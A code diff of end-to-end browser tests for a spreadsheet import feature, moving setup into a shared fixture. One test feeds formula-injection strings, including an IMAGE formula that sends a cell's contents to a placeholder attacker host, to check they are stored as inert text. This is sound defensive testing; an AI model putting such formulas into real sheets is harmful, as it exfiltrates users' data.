@@ -1,24 +1,8 @@
-import type { Browser } from "playwright-core";
-import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
-import { type RunningApp, startApp } from "./app.ts";
-import { closePages, launchBrowser } from "./browser.ts";
+import { expect } from "vitest";
 import { csv, htmlTable, json, markdown, notes } from "./samples.ts";
-import { openSheet } from "./sheet-page.ts";
+import { test } from "./test.ts";
 
-let app: RunningApp;
-let browser: Browser;
-
-beforeAll(async () => {
-  [app, browser] = await Promise.all([startApp(), launchBrowser()]);
-});
-afterEach(() => closePages(browser));
-afterAll(async () => {
-  await browser.close();
-  await app.stop();
-});
-
-test("the sample mail's three invoices arrive as typed rows", async () => {
-  const sheet = await openSheet(browser, app);
+test("the sample mail's three invoices arrive as typed rows", async ({ sheet }) => {
   await sheet.button("Try a sample mail").click();
   await sheet.button("Send").click();
   await sheet.card().getByText("3 of 3 rows").waitFor();
@@ -34,8 +18,7 @@ test("the sample mail's three invoices arrive as typed rows", async () => {
   ]);
 });
 
-test("a pasted CSV keeps its zeros, quotes, negative amounts and empty cells", async () => {
-  const sheet = await openSheet(browser, app);
+test("a pasted CSV keeps its zeros, quotes, negative amounts and empty cells", async ({ sheet }) => {
   await sheet.paste(csv);
   await sheet.button("Remove Pasted table · 6 × 5").waitFor();
   await sheet.send();
@@ -52,8 +35,9 @@ test("a pasted CSV keeps its zeros, quotes, negative amounts and empty cells", a
   expect(await sheet.shown("B2:D2")).toEqual([["2026-03-02", "Miller, Anna", "€1,250.00"]]);
 });
 
-test("a table that was copied from a web page arrives with its line breaks and numbers", async () => {
-  const sheet = await openSheet(browser, app);
+test("a table that was copied from a web page arrives with its line breaks and numbers", async ({
+  sheet,
+}) => {
   await sheet.paste(htmlTable.text, htmlTable.html);
   await sheet.button("Remove Pasted table · 4 × 3").waitFor();
   await sheet.send();
@@ -64,8 +48,7 @@ test("a table that was copied from a web page arrives with its line breaks and n
   expect(rows.map(([, population]) => population)).toEqual(["Population", 3769495, 1841179, 1471508]);
 });
 
-test("a Markdown table arrives without its bars", async () => {
-  const sheet = await openSheet(browser, app);
+test("a Markdown table arrives without its bars", async ({ sheet }) => {
   await sheet.paste(markdown);
   await sheet.button("Remove Pasted table · 4 × 4").waitFor();
   await sheet.send();
@@ -79,8 +62,7 @@ test("a Markdown table arrives without its bars", async () => {
   expect(await sheet.values("C2:C4")).toEqual([[1299], [149.5], [89]]);
 });
 
-test("JSON records arrive as rows: ids with zeros, old dates, percentages", async () => {
-  const sheet = await openSheet(browser, app);
+test("JSON records arrive as rows: ids with zeros, old dates, percentages", async ({ sheet }) => {
   await sheet.paste(json);
   await sheet.send();
   await sheet.insert();
@@ -93,8 +75,7 @@ test("JSON records arrive as rows: ids with zeros, old dates, percentages", asyn
   expect(await sheet.shown("C2:D2")).toEqual([["1815-12-10", "12.5%"]]);
 });
 
-test("notes of keys and values become one row each", async () => {
-  const sheet = await openSheet(browser, app);
+test("notes of keys and values become one row each", async ({ sheet }) => {
   await sheet.paste(notes);
   await sheet.send();
   await sheet.card().getByText("2 of 2 rows").waitFor();
@@ -106,8 +87,7 @@ test("notes of keys and values become one row each", async () => {
   ]);
 });
 
-test("the columns that the person names are the ones that come", async () => {
-  const sheet = await openSheet(browser, app);
+test("the columns that the person names are the ones that come", async ({ sheet }) => {
   await sheet.paste(csv);
   await sheet.send("Columns: Customer, Amount");
   await sheet.card().getByText("5 of 5 rows").waitFor();
@@ -118,8 +98,7 @@ test("the columns that the person names are the ones that come", async () => {
   ]);
 });
 
-test("what looks like a formula, in a cell or a header, lands as the text it is", async () => {
-  const sheet = await openSheet(browser, app);
+test("what looks like a formula, in a cell or a header, lands as the text it is", async ({ sheet }) => {
   const rows = [
     ["=1+1", '=IMAGE("https://evil.example/?d="&A1)'],
     ["+1+1", '=HYPERLINK("https://evil.example","x")'],
@@ -135,8 +114,8 @@ test("what looks like a formula, in a cell or a header, lands as the text it is"
   expect((await sheet.values("A2:B5")).map((row) => row.map((value) => String(value)))).toEqual(rows);
 });
 
-test("a German sheet reads and shows numbers and dates in German", async () => {
-  const sheet = await openSheet(browser, app, { locale: "de_DE" });
+test("a German sheet reads and shows numbers and dates in German", async ({ openSheet }) => {
+  const sheet = await openSheet({ locale: "de_DE" });
   await sheet.paste("Rechnung\tDatum\tBetrag\n0012\t03.04.2026\t1.234,50 €\n0013\t17.04.2026\t99,90 €");
   await sheet.send();
   await sheet.insert();
@@ -155,8 +134,9 @@ const due = `Number,Due,Amount
 0003,12/11/2026,30.00 EUR
 `;
 
-test("what a column leaves open is decided once, a value is fixed, a row left out, a column renamed and retyped", async () => {
-  const sheet = await openSheet(browser, app);
+test("what a column leaves open is decided once, a value is fixed, a row left out, a column renamed and retyped", async ({
+  sheet,
+}) => {
   await sheet.paste(due);
   await sheet.send();
   await sheet.card().getByText("3 to check").waitFor();
